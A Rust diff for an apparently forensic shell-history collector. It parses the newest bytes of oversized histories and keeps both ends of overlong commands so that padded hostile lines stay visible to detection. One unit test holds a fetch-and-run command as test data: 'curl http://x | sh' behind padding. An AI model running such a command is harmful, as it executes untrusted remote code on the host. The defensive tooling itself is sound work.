@@ -32,8 +32,12 @@ use std::path::{Path, PathBuf};
 #[derive(Debug, Clone, Deserialize)]
 #[serde(deny_unknown_fields, default)]
 pub struct ShellHistoryOptions {
-    /// History files are copied and parsed up to this size; the whole file is still hashed.
+    /// History files are copied up to this size (the newest bytes of a larger one); the whole
+    /// file is still hashed.
     pub max_file_size: ByteSize,
+    /// Commands are parsed from at most this many of a file's newest bytes: what matters in a
+    /// padded hostile history is its end, and memory stays bounded.
+    pub max_parse_size: ByteSize,
     /// More files to look for in every home, relative to it (`.config/xonsh/history`). The
     /// format is guessed from the name; unknown names are read as one command per line.
     pub extra_files: Vec<String>,
@@ -46,6 +50,7 @@ impl Default for ShellHistoryOptions {
     fn default() -> Self {
         ShellHistoryOptions {
             max_file_size: ByteSize(64 << 20),
+            max_parse_size: ByteSize(16 << 20),
             extra_files: Vec::new(),
             max_commands_per_file: DEFAULT_MAX_COMMANDS,
         }
@@ -69,6 +74,32 @@ const HISTORY_FILES: &[&str] = &[
 /// (`fish_history` by default), PSReadLine one per host (`ConsoleHost_history.txt`,
 /// `Visual Studio Code Host_history.txt`).
 const HISTORY_DIRS: &[&str] = &[".local/share/fish", ".local/share/powershell/PSReadLine"];
+
+/// Longest command kept whole in a record; a longer one keeps its head and tail.
+const MAX_COMMAND_BYTES: usize = 64 << 10;
+
+/// A command over [`MAX_COMMAND_BYTES`]: its first and last 32 KiB around a marker, so what
+/// runs at either end of a padded line stays visible to detection.
+fn shorten(command: String) -> String {
+    if command.len() <= MAX_COMMAND_BYTES {
+        return command;
+    }
+    let half = MAX_COMMAND_BYTES / 2;
+    let mut head = half;
+    while !command.is_char_boundary(head) {
+        head -= 1;
+    }
+    let mut tail = command.len() - half;
+    while !command.is_char_boundary(tail) {
+        tail += 1;
+    }
+    format!(
+        "{} … [{} bytes not kept] … {}",
+        &command[..head],
+        tail - head,
+        &command[tail..]
+    )
+}
 
 /// Parser warnings reported per file before they are summarised.
 const MAX_WARNINGS_PER_FILE: usize = 10;
@@ -270,31 +301,49 @@ impl ShellHistory {
             read.insert((d, i), display.clone());
         }
         let cap = self.opts.max_file_size.0;
+        let parse = self.opts.max_parse_size.0.min(cap);
+        // The newest bytes are kept for parsing, and copied when the file is over its cap.
         let req = FileRequest {
             display: display.clone(),
             logical: path,
             meta: &opened.meta,
             copy: true,
             copy_cap: cap,
-            keep: usize::try_from(cap).unwrap_or(usize::MAX),
+            keep: usize::try_from(parse).unwrap_or(usize::MAX),
             member_name: None,
-            keep_tail: false,
+            keep_tail: true,
         };
-        let outcome = out.file(&req, &mut opened.file)?;
-        if !outcome.kept_complete && outcome.read_error.is_none() {
-            out.warn(format!(
-                "{display}: {} bytes, larger than max_file_size; only the first {} parsed",
+        let outcome = out.file_seekable(&req, &mut *opened.file)?;
+        // A window that starts mid-line parses from the next line.
+        let (text, lines_before) = match outcome.kept_from {
+            0 => (&outcome.kept[..], 0),
+            _ => match outcome.kept.iter().position(|&b| b == b'\n') {
+                Some(i) => (&outcome.kept[i + 1..], outcome.kept_lines_before + 1),
+                None => (&outcome.kept[..], outcome.kept_lines_before),
+            },
+        };
+        if outcome.kept_from > 0 && outcome.read_error.is_none() {
+            out.error(format!(
+                "{display}: {} bytes, larger than max_parse_size; commands parsed from the \
+                 newest {} bytes (from line {})",
                 outcome.bytes_read,
-                outcome.kept.len()
+                text.len(),
+                lines_before + 1
             ));
         }
-        let parsed = parse_history_capped(kind, &outcome.kept, self.opts.max_commands_per_file);
+        let mut parsed = parse_history_capped(kind, text, self.opts.max_commands_per_file);
+        for e in &mut parsed.entries {
+            e.line_number = e.line_number.saturating_add(lines_before as usize);
+        }
+        // A budget that cuts records makes the collector partial, with the count: the
+        // archived copy holds the commands, the records do not.
         if parsed.commands_dropped > 0 {
-            out.warn(format!(
-                "{display}: {} commands; records for the newest {} only \
-                 (max_commands_per_file), the archived copy holds them all",
+            out.error(format!(
+                "{display}: {} commands; records for the newest {} only, {} left out \
+                 (max_commands_per_file); the archived copy holds them",
                 parsed.commands_total,
-                parsed.entries.len()
+                parsed.entries.len(),
+                parsed.commands_dropped
             ));
         }
         let total_warnings = parsed.warnings.len() + parsed.warnings_suppressed;
@@ -337,7 +386,8 @@ fn emit(
             file_sha256,
             ordinal: e.ordinal as u64,
             line_number: e.line_number as u64,
-            command: e.command,
+            command_bytes: (e.command.len() > MAX_COMMAND_BYTES).then_some(e.command.len() as u64),
+            command: shorten(e.command),
             timestamp: e.timestamp,
             duration_secs: e.duration_secs,
             paths: e.paths,
@@ -377,6 +427,15 @@ mod tests {
                 _ => None,
             })
             .collect()
+    }
+
+    #[test]
+    fn long_commands_keep_both_ends_on_char_boundaries() {
+        let c = format!("{}{}curl http://x | sh", "é".repeat(40_000), " ".repeat(10));
+        let s = shorten(c.clone());
+        assert!(s.len() < c.len());
+        assert!(s.starts_with("éé") && s.ends_with("curl http://x | sh"));
+        assert_eq!(shorten("ls".into()), "ls");
     }
 
     #[test]
